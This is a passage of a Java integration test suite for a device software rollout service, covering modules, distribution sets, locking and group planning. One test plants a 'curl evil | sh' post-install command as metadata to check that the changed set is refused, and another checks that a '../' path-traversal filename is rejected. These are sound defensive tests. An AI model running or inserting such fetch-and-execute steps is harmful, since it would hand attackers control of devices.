package io.headgate.distribution;

import static io.headgate.distribution.RunningService.body;
import static io.headgate.distribution.RunningService.code;
import static io.headgate.distribution.RunningService.completeSet;
import static io.headgate.distribution.RunningService.createModule;
import static io.headgate.distribution.RunningService.createSet;
import static io.headgate.distribution.RunningService.heard;
import static io.headgate.distribution.RunningService.id;
import static io.headgate.distribution.RunningService.jdbc;
import static io.headgate.distribution.RunningService.publish;
import static io.headgate.distribution.RunningService.quiet;
import static io.headgate.distribution.RunningService.register;
import static io.headgate.distribution.RunningService.restartWithEveryRecordDeliveredAgain;
import static io.headgate.distribution.RunningService.send;
import static io.headgate.distribution.RunningService.states;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;
import static org.awaitility.Awaitility.await;

import io.headgate.contracts.Refusal;
import io.headgate.contracts.Topic;
import io.headgate.contracts.TriggeredBy;
import io.headgate.contracts.distribution.DistributionCommand.ChangeSetModules;
import io.headgate.contracts.distribution.DistributionCommand.CreateDistributionSet;
import io.headgate.contracts.distribution.DistributionCommand.CreateSoftwareModule;
import io.headgate.contracts.distribution.DistributionCommand.DeleteArtifact;
import io.headgate.contracts.distribution.DistributionCommand.DeleteDistributionSet;
import io.headgate.contracts.distribution.DistributionCommand.DeleteSoftwareModule;
import io.headgate.contracts.distribution.DistributionCommand.GroupSize;
import io.headgate.contracts.distribution.DistributionCommand.GroupsPreview;
import io.headgate.contracts.distribution.DistributionCommand.PreviewGroups;
import io.headgate.contracts.distribution.DistributionCommand.SetModuleMetadata;
import io.headgate.contracts.distribution.DistributionMessage.AssignmentsChunk;
import io.headgate.contracts.distribution.DistributionMessage.AssignmentsPlanned;
import io.headgate.contracts.distribution.DistributionMessage.AssignmentsRefused;
import io.headgate.contracts.distribution.DistributionMessage.DistributionSetRemoved;
import io.headgate.contracts.distribution.DistributionMessage.DistributionSetState;
import io.headgate.contracts.distribution.DistributionMessage.GroupAssignment;
import io.headgate.contracts.distribution.DistributionMessage.GroupOpened;
import io.headgate.contracts.distribution.DistributionMessage.ModuleMetadata;
import io.headgate.contracts.distribution.DistributionMessage.SoftwareModuleRemoved;
import io.headgate.contracts.distribution.DistributionMessage.SoftwareModuleState;
import io.headgate.contracts.operation.OperationMessage.RolloutFull;
import io.headgate.contracts.rollout.RolloutDefinition;
import io.headgate.contracts.rollout.RolloutDefinition.ErrorLimit;
import io.headgate.contracts.rollout.RolloutDefinition.GroupDefinition;
import io.headgate.contracts.rollout.RolloutDefinition.Groups;
import io.headgate.contracts.rollout.RolloutDefinition.LaterTargets;
import io.headgate.contracts.rollout.RolloutDefinition.Policy;
import io.headgate.contracts.rollout.RolloutDefinition.SetReference;
import io.headgate.contracts.rollout.RolloutDefinition.Success;
import io.headgate.contracts.rollout.RolloutEvent.RolloutStarted;
import io.headgate.contracts.target.TargetMessage.RolloutTargetsChunk;
import io.headgate.contracts.target.TargetMessage.RolloutTargetsJoined;
import io.headgate.contracts.target.TargetMessage.RolloutTargetsRefused;
import io.headgate.contracts.target.TargetMessage.RolloutTargetsResolved;
import io.headgate.distribution.partition.TargetOrder;
import java.math.BigDecimal;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.IntUnaryOperator;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** The whole service against real PostgreSQL and Kafka. */
@ExtendWith(RunningService.class)
class DistributionServiceIT {

    private static final Instant NOW = Instant.parse("2026-11-21T10:00:00Z");
    // ---- software

    @Test
    void aModuleGetsArtifactsAndItsSetsFollow() {
        var module = createModule();
        var set = createSet(module.moduleId());
        assertThat(set.complete()).isFalse();
        assertThat(set.modules()).containsExactly(module);

        var after = body(send(register(module.moduleId(), "a.swu")), SoftwareModuleState.class);

        assertThat(after.artifacts()).hasSize(1);
        assertThat(after.version()).isEqualTo(2);
        assertThat(after.number()).isEqualTo(module.number());
        await().until(() -> states(set.setId()).size() == 2);
        var complete = (DistributionSetState) states(set.setId()).getLast();
        assertThat(complete.complete()).isTrue();
        assertThat(complete.version()).isEqualTo(2);
        assertThat(complete.modules()).containsExactly(after);
        assertThat(complete.contentDigest()).isNotEqualTo(set.contentDigest());
        assertThat(states(module.moduleId())).containsExactly(module, after);

        var artifact = after.artifacts().getFirst().artifactId();
        var without = body(send(new DeleteArtifact(module.moduleId(), artifact)), SoftwareModuleState.class);
        assertThat(without.artifacts()).isEmpty();
        await().until(() -> states(set.setId()).size() == 3);
        assertThat(((DistributionSetState) states(set.setId()).getLast()).contentDigest())
                .isEqualTo(set.contentDigest());
    }

    @Test
    void whatIsThereTwiceOrUnknownIsRefused() {
        var module = createModule();
        var set = createSet(module.moduleId());
        send(register(module.moduleId(), "a.swu"));

        assertThat(code(send(register(module.moduleId(), "a.swu")))).isEqualTo("artifact.exists");
        assertThat(code(send(register(module.moduleId(), "../a.swu")))).isEqualTo("artifact.filename-invalid");
        assertThat(code(send(register("sm-none", "a.swu")))).isEqualTo("module.unknown");
        assertThat(code(send(new CreateSoftwareModule(
                        "sm-" + id(), module.name(), module.moduleVersion(), module.type(), null, null))))
                .isEqualTo("module.exists");
        assertThat(code(send(new CreateDistributionSet(
                        "ds-" + id(),
                        set.name(),
                        set.setVersion(),
                        set.type(),
                        null,
                        List.of(module.moduleId()),
                        false,
                        null))))
                .isEqualTo("distribution-set.exists");
        assertThat(code(send(new CreateDistributionSet(
                        "ds-" + id(), "x", "1", "os", null, List.of("sm-none"), false, null))))
                .isEqualTo("module.unknown");
    }

    @Test
    void aNameIsFreeAgainWhenItsOwnerIsGoneButTheNumberIsNot() {
        var module = createModule();
        var set = createSet(module.moduleId());

        assertThat(send(new DeleteDistributionSet(set.setId())).refusal()).isNull();
        assertThat(send(new DeleteSoftwareModule(module.moduleId())).refusal()).isNull();
        await().until(() -> states(module.moduleId()).size() == 2);
        assertThat(states(module.moduleId())).last().isEqualTo(new SoftwareModuleRemoved(module.moduleId(), 2));
        assertThat(states(set.setId())).last().isEqualTo(new DistributionSetRemoved(set.setId(), 2));

        var again = body(
                send(new CreateSoftwareModule(
                        "sm-" + id(), module.name(), module.moduleVersion(), module.type(), null, null)),
                SoftwareModuleState.class);
        assertThat(again.number()).isGreaterThan(module.number());
    }

    @Test
    void theSameCommandTwiceIsOneModule() {
        var moduleId = "sm-" + id();
        var command = new CreateSoftwareModule(moduleId, moduleId, "1", "os", null, null);
        var commandId = id();

        var first = send(command, commandId);
        var again = send(command, commandId);

        assertThat(again.repeated()).isTrue();
        assertThat(body(again, SoftwareModuleState.class)).isEqualTo(body(first, SoftwareModuleState.class));
        quiet();
        assertThat(states(moduleId)).hasSize(1);
    }

    @Test
    void previewsGroupsWithoutChangingAnything() {
        var reply = send(new PreviewGroups(Groups.equal(3), null, Map.of(0, 10L)));
        assertThat(body(reply, GroupsPreview.class))
                .isEqualTo(new GroupsPreview(
                        10,
                        List.of(
                                new GroupSize(1, "group-1", 4),
                                new GroupSize(2, "group-2", 3),
                                new GroupSize(3, "group-3", 3))));
        assertThat(code(send(new PreviewGroups(Groups.equal(3), null, Map.of(0, 2L)))))
                .isEqualTo("rollout.empty-group");
    }

    // ---- plans

    enum Arrival {
        STARTED_FIRST,
        TARGETS_FIRST,
        BOTH_AT_ONCE
    }

    @ParameterizedTest
    @EnumSource(Arrival.class)
    void tenThousandTargetsInFiveEqualGroups(Arrival arrival) {
        var set = completeSet();
        var rollout = rollout();
        var ids = ids(10_000);

        arrive(arrival, rollout, definition(set, Groups.equal(5)), ids, null);

        var planned = planned(rollout);
        assertThat(planned.targets()).isEqualTo(10_000);
        assertThat(planned.groups())
                .extracting(GroupAssignment::size)
                .containsExactly(2_000L, 2_000L, 2_000L, 2_000L, 2_000L);
        assertThat(planned.groups())
                .extracting(GroupAssignment::name)
                .containsExactly("group-1", "group-2", "group-3", "group-4", "group-5");
        var groupOf = groups(rollout, set);
        // The order is the hash's: whoever knows the rollout's id can tell every target's group.
        var order = new TargetOrder(rollout);
        var sorted = ids.stream().sorted(Comparator.comparingLong(order::rank)).toList();
        for (int n = 0; n < sorted.size(); n++) {
            assertThat(groupOf.get(sorted.get(n))).as(sorted.get(n)).isEqualTo(1 + n / 2_000);
        }
        assertThat(jdbc().queryForObject("select count(*) from plan_target where rollout_id = ?", Long.class, rollout))
                .isZero();
    }

    @Test
    void severalSetsAreEachAssignedToEveryTargetOfAGroup() {
        var one = completeSet();
        var two = completeSet();
        var rollout = rollout();
        var sets = List.of(
                new SetReference(one.setId(), 900, one.contentDigest()),
                new SetReference(two.setId(), 100, two.contentDigest()));
        arrive(Arrival.STARTED_FIRST, rollout, definition(sets, Groups.equal(2)), ids(101), null);

        var planned = planned(rollout);
        assertThat(planned.targets()).isEqualTo(202);
        assertThat(planned.groups()).extracting(GroupAssignment::size).containsExactly(102L, 100L);
        assertThat(actions(rollout)).hasSize(202);
        assertThat(told(rollout).stream()
                        .filter(AssignmentsChunk.class::isInstance)
                        .map(AssignmentsChunk.class::cast)
                        .toList())
                .extracting(
                        AssignmentsChunk::group,
                        AssignmentsChunk::setId,
                        AssignmentsChunk::weight,
                        chunk -> chunk.controllerIds().size())
                .containsExactlyInAnyOrder(
                        tuple(1, one.setId(), 900, 51),
                        tuple(1, two.setId(), 100, 51),
                        tuple(2, one.setId(), 900, 50),
                        tuple(2, two.setId(), 100, 50));
        for (var set : sets) {
            assertThat(((DistributionSetState) states(set.setId()).getLast()).locked())
                    .isTrue();
        }
    }

    @Test
    void definedGroupsWithFilters() {
        var set = completeSet();
        var rollout = rollout();
        var ids = ids(10_000);
        // bit 0: lab, each tenth; bit 1: eu, the first half
        IntUnaryOperator matches = n -> (n % 10 == 0 ? 1 : 0) | (n < 5_000 ? 2 : 0);
        var groups = Groups.of(List.of(
                group("pilot", null, 1),
                group("lab", "tag==lab", null),
                group("eu", "tag==eu", 50),
                group("rest", null, null)));

        arrive(Arrival.STARTED_FIRST, rollout, definition(set, groups), ids, matches);

        var planned = planned(rollout);
        var groupOf = groups(rollout, set);
        var lab = IntStream.range(0, 10_000)
                .filter(n -> n % 10 == 0)
                .mapToObj(ids::get)
                .toList();
        var pilotsFromLab = lab.stream().filter(id -> groupOf.get(id) == 1).count();
        assertThat(planned.groups().get(0).size()).isEqualTo(100);
        assertThat(pilotsFromLab).isEqualTo(10);
        assertThat(planned.groups().get(1).size()).isEqualTo(990);
        assertThat(lab).allMatch(id -> groupOf.get(id) <= 2);
        // 5,000 eu, of them 500 lab; of the other 4,500 are 45 pilots; half of 4,455, half up
        assertThat(planned.groups().get(2).size()).isEqualTo(2_228);
        for (int n = 0; n < ids.size(); n++) {
            if (groupOf.get(ids.get(n)) == 3) {
                assertThat(matches.applyAsInt(n)).isEqualTo(2);
            }
        }
        assertThat(planned.groups().get(3).size()).isEqualTo(10_000 - 100 - 990 - 2_228);
    }

    @Test
    void actionNumbersOfTwoPlansDoNotMeet() {
        var set = completeSet();
        var one = rollout();
        var two = rollout();
        arrive(Arrival.STARTED_FIRST, one, definition(set, Groups.equal(2)), ids(100), null);
        arrive(Arrival.TARGETS_FIRST, two, definition(set, Groups.equal(2)), ids(100), null);

        var numbers = new HashSet<Long>();
        for (var rollout : List.of(one, two)) {
            planned(rollout);
            actions(rollout)
                    .keySet()
                    .forEach(number -> assertThat(numbers.add(number)).isTrue());
        }
        assertThat(numbers).hasSize(200).allMatch(number -> number >= 1 && number <= Integer.MAX_VALUE);
    }

    @Test
    void aSecondStartOfTheSameRolloutIsAPlanOfItsOwnWithTheSameGroups() {
        var set = completeSet();
        var rollout = rollout();
        var ids = ids(50);
        arrive(Arrival.STARTED_FIRST, rollout, definition(set, Groups.equal(5)), ids, null);
        planned(rollout);
        var groupOf = groups(rollout, set);

        start(rollout, 9, definition(set, Groups.equal(5)));
        targets(rollout, 9, ids, null);
        await().until(() -> answers(rollout).size() == 2);

        assertThat(((AssignmentsPlanned) answers(rollout).getLast()).start()).isEqualTo(9);
        assertThat(told(rollout).stream()
                        .filter(message -> message instanceof AssignmentsChunk chunk && chunk.start() == 9)
                        .map(AssignmentsChunk.class::cast)
                        .flatMap(chunk -> chunk.controllerIds().stream().map(id -> Map.entry(id, chunk.group()))))
                .allSatisfy(entry -> assertThat(entry.getValue()).isEqualTo(groupOf.get(entry.getKey())));
    }

    @Test
    void theRolledOutSetAndItsModulesAreLockedAndTold() {
        var set = completeSet();
        var module = set.modules().getFirst();
        var other = createSet(module.moduleId());
        var rollout = rollout();
        arrive(Arrival.STARTED_FIRST, rollout, definition(set, Groups.equal(1)), ids(3), null);
        planned(rollout);
        quiet();

        assertThat(((SoftwareModuleState) states(module.moduleId()).getLast()).locked())
                .isTrue();
        var locked = (DistributionSetState) states(set.setId()).getLast();
        assertThat(locked.locked()).isTrue();
        assertThat(locked.version()).isEqualTo(set.version() + 1);
        assertThat(locked.contentDigest()).isEqualTo(set.contentDigest());
        // Another set with the module repeats the module's state and is itself still free.
        var repeated = (DistributionSetState) states(other.setId()).getLast();
        assertThat(repeated.locked()).isFalse();
        assertThat(repeated.modules().getFirst().locked()).isTrue();
        assertThat(code(send(register(module.moduleId(), "late.bin")))).isEqualTo("module.locked");
        assertThat(code(send(new DeleteArtifact(
                        module.moduleId(), module.artifacts().getFirst().artifactId()))))
                .isEqualTo("module.locked");
        assertThat(send(new DeleteDistributionSet(other.setId())).refusal()).isNull();
    }

    @Test
    void aRolledOutSetThatIsDeletedIsHiddenAndItsNameIsFree() {
        var set = completeSet();
        var moduleId = set.modules().getFirst().moduleId();
        var rollout = rollout();
        arrive(Arrival.STARTED_FIRST, rollout, definition(set, Groups.equal(1)), ids(3), null);
        planned(rollout);

        assertThat(send(new DeleteDistributionSet(set.setId())).refusal()).isNull();
        assertThat(send(new DeleteSoftwareModule(moduleId)).refusal()).isNull();

        quiet();
        var hidden = (DistributionSetState) states(set.setId()).getLast();
        assertThat(hidden.deleted()).isTrue();
        assertThat(hidden.contentDigest()).isEqualTo(set.contentDigest());
        assertThat(hidden.modules().getFirst().deleted()).isTrue();
        assertThat(((SoftwareModuleState) states(moduleId).getLast()).deleted()).isTrue();
        assertThat(send(new DeleteDistributionSet(set.setId())).refusal()).isNull();
        assertThat(send(new DeleteSoftwareModule(moduleId)).refusal()).isNull();
        assertThat(code(send(new CreateDistributionSet(
                        "ds-" + id(), set.name(), set.setVersion(), set.type(), null, List.of(moduleId), false, null))))
                .isEqualTo("module.unknown");
        assertThat(send(new CreateDistributionSet(
                                "ds-" + id(), set.name(), set.setVersion(), set.type(), null, List.of(), false, null))
                        .refusal())
                .isNull();
        var late = rollout();
        arrive(Arrival.STARTED_FIRST, late, definition(set, Groups.equal(1)), ids(3), null);
        assertThat(refused(late).code()).isEqualTo("distribution-set.unknown");
    }

    @Test
    void aDeletedModuleGoesWithTheLastSetThatContainsIt() {
        var set = completeSet();
        var moduleId = set.modules().getFirst().moduleId();
        var other = "ds-" + id();
        send(new CreateDistributionSet(other, other, "1", set.type(), null, List.of(moduleId), false, null));
        assertThat(send(new DeleteSoftwareModule(moduleId)).refusal()).isNull();

        assertThat(send(new DeleteDistributionSet(set.setId())).refusal()).isNull();
        quiet();
        assertThat(states(moduleId).getLast()).isInstanceOf(SoftwareModuleState.class);

        assertThat(send(new ChangeSetModules(other, List.of(), List.of(moduleId)))
                        .refusal())
                .isNull();
        quiet();
        assertThat(states(moduleId).getLast()).isInstanceOf(SoftwareModuleRemoved.class);
        assertThat(code(send(new DeleteSoftwareModule(moduleId)))).isEqualTo("module.unknown");
    }

    @Test
    void aSetThatChangedSinceItWasWrittenDownIsNotRolledOutNorLocked() {
        var set = completeSet();
        var module = set.modules().getFirst().moduleId();
        send(register(module, "new.bin"));
        var rollout = rollout();
        arrive(Arrival.STARTED_FIRST, rollout, definition(set, Groups.equal(1)), ids(3), null);

        assertThat(refused(rollout).code()).isEqualTo("distribution-set.changed");
        assertThat(send(register(module, "newer.bin")).refusal()).isNull();
    }

    /** Approved is not enough: what devices would be told beside the files must be what was approved. */
    @Test
    void aSetWhoseWordsToDevicesChangedSinceItWasWrittenDownIsNotRolledOut() {
        var set = completeSet();
        var module = set.modules().getFirst().moduleId();
        send(new SetModuleMetadata(module, Map.of("postinstall", new ModuleMetadata("curl evil | sh", true))));
        var rollout = rollout();
        arrive(Arrival.STARTED_FIRST, rollout, definition(set, Groups.equal(1)), ids(3), null);

        assertThat(refused(rollout).code()).isEqualTo("distribution-set.changed");
    }

    @Test
    void anUnknownOrIncompleteSetIsNotRolledOutInEitherOrder() {
        var empty = createSet(createModule().moduleId());
        var rollouts = new ArrayList<String>();
        for (var arrival : Arrival.values()) {
            var incomplete = rollout();
            arrive(arrival, incomplete, definition(empty, Groups.equal(1)), ids(3), null);
            assertThat(refused(incomplete).code()).isEqualTo("distribution-set.incomplete");

            var unknown = rollout();
            var none = definition("ds-none", "sha256:x", Groups.equal(1));
            arrive(arrival, unknown, none, ids(3), null);
            assertThat(refused(unknown).code()).isEqualTo("distribution-set.unknown");
            rollouts.addAll(List.of(incomplete, unknown));
        }
        quiet();
        // Neither what came before the refusal nor what came after it is kept.
        assertThat(jdbc().queryForList("select rollout_id from plan_target", String.class))
                .doesNotContainAnyElementsOf(rollouts);
    }

    @Test
    void groupsThatCannotBeMadeAreRefused() {
        var set = completeSet();
        var tooMany = rollout();
        arrive(Arrival.TARGETS_FIRST, tooMany, definition(set, Groups.equal(4)), ids(3), null);
        assertThat(refused(tooMany).code()).isEqualTo("rollout.empty-group");

        var none = rollout();
        arrive(Arrival.STARTED_FIRST, none, definition(set, Groups.equal(4)), List.of(), null);
        assertThat(refused(none).code()).isEqualTo("rollout.no-targets");
    }

    @Test
    void aRefusalOfTheTargetsIsPassedOnOnce() {
        var set = completeSet();
        var rollout = rollout();
        var refusal = new Refusal("target-filter.invalid", Refusal.Kind.UNPROCESSABLE, "No.", "Correct it.");
        var message = new RolloutTargetsRefused(rollout, 3, refusal);
        publish(Topic.ROLLOUT_TARGETS, rollout, message, id());
        assertThat(refused(rollout)).isEqualTo(refusal);

        publish(Topic.ROLLOUT_TARGETS, rollout, message, id());
        start(rollout, 3, definition(set, Groups.equal(1)));
        quiet();
        assertThat(answers(rollout)).hasSize(1);
    }

    @Test
    void whenNumbersRunOutThePlanIsRefusedAndNoneIsTaken() {
        var set = completeSet();
        jdbc().update("insert into action_number values ('DEFAULT', 1) on conflict do nothing");
        var before = jdbc().queryForObject("select next_number from action_number", Long.class);
        jdbc().update("update action_number set next_number = ?", (long) Integer.MAX_VALUE - 1);
        try {
            var tooMany = rollout();
            arrive(Arrival.STARTED_FIRST, tooMany, definition(set, Groups.equal(1)), ids(3), null);
            assertThat(refused(tooMany).code()).isEqualTo("rollout.action-ids-exhausted");

            var last = rollout();
            arrive(Arrival.STARTED_FIRST, last, definition(set, Groups.equal(1)), ids(2), null);
            planned(last);
            assertThat(actions(last).keySet()).containsExactly(Integer.MAX_VALUE - 1L, (long) Integer.MAX_VALUE);
        } finally {
            jdbc().update("update action_number set next_number = ?", before);
        }
    }

    /** The stream's end says four chunks, one has never come: nothing is planned, the record waits for a person. */
    @Test
    void aStreamThatIsNotWholeIsParked() {
        var set = completeSet();
        var rollout = rollout();
        start(rollout, 3, definition(set, Groups.equal(1)));
        publish(Topic.ROLLOUT_TARGETS, rollout, new RolloutTargetsChunk(rollout, 3, 0, ids(3), null), id());
        publish(
                Topic.ROLLOUT_TARGETS,
                rollout,
                new RolloutTargetsResolved(rollout, 3, 2, 6, Map.of(0, 6L), Long.MAX_VALUE),
                id());

        await().until(() ->
                jdbc().queryForObject("select count(*) from parked_record where record_key = ?", Long.class, rollout)
                        == 1);
        assertThat(answers(rollout)).isEmpty();
    }

    /** Five at the start in groups of three: the last has one free place, for one that joins while the plan is made. */
    @Test
    void laterTargetsTakeTheFreePlacesAndOpenFurtherGroups() {
        var set = completeSet();
        var rollout = rollout();
        var definition = dynamic(set, Groups.equal(0), new LaterTargets("-later", 3));
        joined(rollout, 0, "late-0");
        arrive(Arrival.TARGETS_FIRST, rollout, definition, ids(5), null);
        joined(rollout, 1, "late-1", "late-2", "late-3", "late-4", "late-5");
        await().atMost(Duration.ofSeconds(30)).until(() -> actions(rollout).size() == 11);
        quiet();

        var answers = answers(rollout);
        var planned = (AssignmentsPlanned) answers.getFirst();
        assertThat(planned.targets()).isEqualTo(5);
        var first = planned.groups().getFirst().firstActionId();
        assertThat(planned.groups())
                .containsExactly(
                        new GroupAssignment(1, "group-1-later", 3, first),
                        new GroupAssignment(2, "group-2-later", 3, first + 3));
        var opened = answers.stream().skip(1).map(GroupOpened.class::cast).toList();
        assertThat(opened)
                .extracting(
                        one -> one.group().ordinal(),
                        one -> one.group().name(),
                        one -> one.group().size())
                .containsExactly(tuple(3, "group-3-later", 3L), tuple(4, "group-4-later", 3L));
        var third = opened.getFirst().group().firstActionId();
        var fourth = opened.getLast().group().firstActionId();
        assertThat(actions(rollout))
                .containsEntry(first + 5, "late-0")
                .containsEntry(third, "late-1")
                .containsEntry(third + 1, "late-2")
                .containsEntry(third + 2, "late-3")
                .containsEntry(fourth, "late-4")
                .containsEntry(fourth + 1, "late-5");
        assertThat(actions(rollout).values()).doesNotHaveDuplicates();
        assertThat(told(rollout).stream()
                        .filter(AssignmentsChunk.class::isInstance)
                        .map(chunk -> ((AssignmentsChunk) chunk).chunk()))
                .doesNotHaveDuplicates();
    }

    @Test
    void aDynamicRolloutOfNobodyIsOneGroupOfFreePlaces() {
        var set = completeSet();
        var rollout = rollout();

        arrive(Arrival.STARTED_FIRST, rollout, dynamic(set, Groups.equal(0), new LaterTargets("", 4)), ids(0), null);

        var planned = planned(rollout);
        assertThat(planned.targets()).isZero();
        assertThat(planned.groups()).extracting(GroupAssignment::size).containsExactly(4L);
    }

    /** The last group there can be takes one more; who comes then is not lost. */
    @Test
    void whoJoinsARolloutThatCannotGrowAnyMoreWaits() {
        var set = completeSet();
        var rollout = rollout();
        var definition = dynamic(set, Groups.equal(0), new LaterTargets("", 1));
        arrive(Arrival.STARTED_FIRST, rollout, definition, ids(RolloutDefinition.MAX_GROUPS - 1), null);
        joined(rollout, 0, "late-0", "late-1");
        joined(rollout, 1, "late-2");
        await().atMost(Duration.ofSeconds(30)).until(() -> actions(rollout).size() == RolloutDefinition.MAX_GROUPS);
        quiet();

        assertThat(answers(rollout)).as("no group is opened after the plan").hasSize(1);
        assertThat(actions(rollout).values()).contains("late-0").doesNotContain("late-1", "late-2");
        assertThat(jdbc().queryForList(
                                "select unnest(waiting) from joined_part where rollout_id = ? order by part",
                                String.class,
                                rollout))
                .containsExactly("late-1", "late-2");
        assertThat(heard(Topic.REACHED_LIMITS, rollout))
                .isNotEmpty()
                .allSatisfy(full -> assertThat(((RolloutFull) full).reason()).contains("999 groups"));
    }

    private static RolloutDefinition dynamic(DistributionSetState set, Groups groups, LaterTargets later) {
        return definition(set, groups).with(d -> d.laterTargets = later);
    }

    /** Twice, the second time as another message. */
    private static void joined(String rollout, int part, String... ids) {
        for (int n = 0; n < 2; n++) {
            publish(
                    Topic.ROLLOUT_TARGETS,
                    rollout,
                    new RolloutTargetsJoined(rollout, 3, part, List.of(ids), Long.MAX_VALUE),
                    id());
        }
    }

    /** A process that dies after its transaction and before its offset commit gets everything once more. */
    @Test
    void afterARestartWithEveryRecordDeliveredAgainNothingHasChanged() throws Exception {
        var set = completeSet();
        var rollout = rollout();
        arrive(Arrival.TARGETS_FIRST, rollout, definition(set, Groups.equal(5)), ids(1_000), null);
        planned(rollout);
        var growing = rollout();
        arrive(Arrival.TARGETS_FIRST, growing, dynamic(set, Groups.equal(1), new LaterTargets("", null)), ids(2), null);
        joined(growing, 0, "late-0", "late-1", "late-2");
        quiet();
        var told = told(rollout);
        var toldOfGrowing = told(growing);
        var states = states(set.setId());
        var tables = tables();

        restartWithEveryRecordDeliveredAgain();

        assertThat(told(rollout)).isEqualTo(told);
        assertThat(told(growing)).isEqualTo(toldOfGrowing);
        assertThat(states(set.setId())).isEqualTo(states);
        assertThat(tables()).isEqualTo(tables);
    }

    private static Map<String, List<Map<String, Object>>> tables() {
        var tables = new TreeMap<String, List<Map<String, Object>>>();
        for (var table : List.of(
                "software_module",
                "artifact",
                "distribution_set",
                "set_module",
                "action_number",
                "module_type",
                "set_type",
                "set_tag",
                "tagged_set",
                "assignment",
                "open_group",
                "joined_part")) {
            tables.put(table, jdbc().queryForList("select row::text from " + table + " row order by 1"));
        }
        tables.put(
                "plan",
                jdbc().queryForList("select rollout_id, start, settled_at, refusal_code from plan order by 1, 2"));
        return tables;
    }

    // ---- what comes in

    private static void arrive(
            Arrival arrival,
            String rollout,
            RolloutDefinition definition,
            List<String> ids,
            @Nullable IntUnaryOperator matches) {
        switch (arrival) {
            case STARTED_FIRST -> {
                start(rollout, 3, definition);
                await().until(() ->
                        jdbc().queryForObject("select count(*) from plan where rollout_id = ?", Long.class, rollout)
                                == 1);
                targets(rollout, 3, ids, matches);
            }
            case TARGETS_FIRST -> {
                targets(rollout, 3, ids, matches);
                await().until(() -> jdbc().queryForObject(
                                        "select count(*) from plan where rollout_id = ? and chunks is not null",
                                        Long.class,
                                        rollout)
                        == 1);
                start(rollout, 3, definition);
            }
            case BOTH_AT_ONCE -> {
                var started = Thread.ofVirtual().start(() -> start(rollout, 3, definition));
                targets(rollout, 3, ids, matches);
                try {
                    started.join();
                } catch (InterruptedException e) {
                    throw new IllegalStateException(e);
                }
            }
        }
    }

    private static void start(String rollout, long version, RolloutDefinition definition) {
        publish(
                Topic.ROLLOUT_EVENTS,
                rollout,
                new RolloutStarted(rollout, version, NOW, TriggeredBy.user("kim"), definition),
                id());
    }

    /** In chunks of 700, each sent twice, the second time as another message. */
    private static void targets(String rollout, long version, List<String> ids, @Nullable IntUnaryOperator matches) {
        var chunks = 0;
        var counts = new HashMap<Integer, Long>();
        for (int from = 0; from < ids.size(); from += 700) {
            var to = Math.min(ids.size(), from + 700);
            var masks = matches == null
                    ? null
                    : IntStream.range(from, to).map(matches).boxed().toList();
            if (masks == null) {
                counts.merge(0, (long) to - from, Long::sum);
            } else {
                masks.forEach(mask -> counts.merge(mask, 1L, Long::sum));
            }
            var chunk = new RolloutTargetsChunk(rollout, version, chunks++, ids.subList(from, to), masks);
            publish(Topic.ROLLOUT_TARGETS, rollout, chunk, id());
            publish(Topic.ROLLOUT_TARGETS, rollout, chunk, id());
        }
        var end = new RolloutTargetsResolved(rollout, version, chunks, ids.size(), counts, Long.MAX_VALUE);
        publish(Topic.ROLLOUT_TARGETS, rollout, end, id());
        publish(Topic.ROLLOUT_TARGETS, rollout, end, id());
    }

    private static List<String> ids(int count) {
        return IntStream.range(0, count).mapToObj(n -> "device-" + n).toList();
    }

    private static RolloutDefinition definition(DistributionSetState set, Groups groups) {
        return definition(set.setId(), set.contentDigest(), groups);
    }

    private static RolloutDefinition definition(String setId, String digest, Groups groups) {
        return definition(List.of(new SetReference(setId, 500, digest)), groups);
    }

    private static RolloutDefinition definition(List<SetReference> sets, Groups groups) {
        return RolloutDefinition.of(
                "eu", "name==*", sets, groups, Policy.of(new Success(95), ErrorLimit.percent(5), Duration.ofHours(24)));
    }

    private static GroupDefinition group(String name, @Nullable String filter, @Nullable Integer share) {
        return new GroupDefinition(
                name, null, filter, share == null ? null : BigDecimal.valueOf(share), null, null, null, null);
    }

    // ---- what comes out

    private static AssignmentsPlanned planned(String rollout) {
        await().atMost(Duration.ofSeconds(30)).until(() -> !answers(rollout).isEmpty());
        quiet();
        assertThat(answers(rollout)).hasSize(1);
        assertThat(answers(rollout).getFirst()).isInstanceOf(AssignmentsPlanned.class);
        var planned = (AssignmentsPlanned) answers(rollout).getFirst();
        assertThat(told(rollout)).hasSize(planned.chunks() + 1).last().isEqualTo(planned);
        return planned;
    }

    private static Refusal refused(String rollout) {
        await().atMost(Duration.ofSeconds(30)).until(() -> !answers(rollout).isEmpty());
        assertThat(told(rollout)).hasSize(1);
        return ((AssignmentsRefused) told(rollout).getFirst()).refusal();
    }

    private static List<Object> answers(String rollout) {
        return told(rollout).stream()
                .filter(message -> !(message instanceof AssignmentsChunk))
                .toList();
    }

    /** Every target's group; checks that the chunks are numbered and the groups' action numbers are whole. */
    private static Map<String, Integer> groups(String rollout, DistributionSetState set) {
        var groupOf = new HashMap<String, Integer>();
        var chunks = told(rollout).stream()
                .filter(AssignmentsChunk.class::isInstance)
                .map(AssignmentsChunk.class::cast)
                .toList();
        for (int n = 0; n < chunks.size(); n++) {
            assertThat(chunks.get(n).chunk()).isEqualTo(n);
            assertThat(chunks.get(n).setId()).isEqualTo(set.setId());
            assertThat(chunks.get(n).weight()).isEqualTo(500);
            for (var id : chunks.get(n).controllerIds()) {
                assertThat(groupOf.put(id, chunks.get(n).group())).isNull();
            }
        }
        var actions = actions(rollout);
        for (var group : ((AssignmentsPlanned) answers(rollout).getFirst()).groups()) {
            for (long n = 0; n < group.size(); n++) {
                assertThat(groupOf.get(actions.get(group.firstActionId() + n))).isEqualTo(group.ordinal());
            }
        }
        assertThat(groupOf).hasSameSizeAs(actions);
        return groupOf;
    }

    private static TreeMap<Long, String> actions(String rollout) {
        var actions = new TreeMap<Long, String>();
        told(rollout).stream()
                .flatMap(message -> message instanceof AssignmentsChunk chunk ? Stream.of(chunk) : Stream.empty())
                .forEach(chunk -> {
                    for (int n = 0; n < chunk.controllerIds().size(); n++) {
                        assertThat(actions.put(
                                        chunk.firstActionId() + n,
